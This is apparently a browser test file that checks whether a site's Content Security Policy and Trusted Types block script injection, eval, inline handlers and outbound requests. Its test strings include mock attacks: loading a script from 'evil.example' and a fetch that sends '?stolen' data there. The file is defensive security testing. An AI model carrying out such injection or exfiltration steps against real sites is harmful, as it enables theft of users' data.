import { expect, test } from 'vitest';
import { leagueForThisFile, prepare } from '../support/league.ts';
import { expectSoon } from '../support/page.ts';
import { fewRows } from '../support/sharedServer.ts';

// What the CSP has to stop is stopped, on the site as it is built. What it stops by mistake would be an
// error in the console, which fails every test of a page.

const league = leagueForThisFile({ seed: fewRows });

test('what gets into the page in spite of all is stopped', async () => {
  const { page, allow } = await prepare(league);
  // The browser logs what it stops.
  allow(/./u);
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.text().startsWith('violation: ')) violations.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      console.error(`violation: ${effectiveDirective}`);
    });
  });
  await page.goto('/nosotros');
  await expectSoon(page.locator('h1').first()).toBeVisible();
  const outcome = await page.evaluate(`(async () => {
    const refused = async (attack) => {
      try { await attack(); return false; } catch { return true; }
    };
    // The browser's debugger may evaluate text; what runs after a turn of the loop may not.
    await new Promise((resolve) => setTimeout(resolve));
    const script = document.createElement('script');
    const outcome = {
      markup: await refused(() => document.body.insertAdjacentHTML('beforeend', '<img src=x>')),
      innerHtml: await refused(() => { document.body.innerHTML = '<b>x</b>'; }),
      evaluation: await refused(() => eval('1')),
      scriptText: await refused(() => { script.text = 'window.hacked = 1'; }),
      scriptAddress: await refused(() => { script.src = 'https://evil.example/x.js'; }),
      worker: await refused(() => new Worker('/assets/x.js')),
      sending: await refused(() => fetch('https://evil.example/?stolen')),
      handler: await refused(() => document.body.setAttribute('onclick', 'window.hacked = 1')),
      policy: await refused(() => trustedTypes.createPolicy('mine', {})),
    };
    return { allowed: Object.keys(outcome).filter((attack) => !outcome[attack]), hacked: 'hacked' in window };
  })()`);
  expect(outcome).toEqual({ allowed: [], hacked: false });
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(8);
});
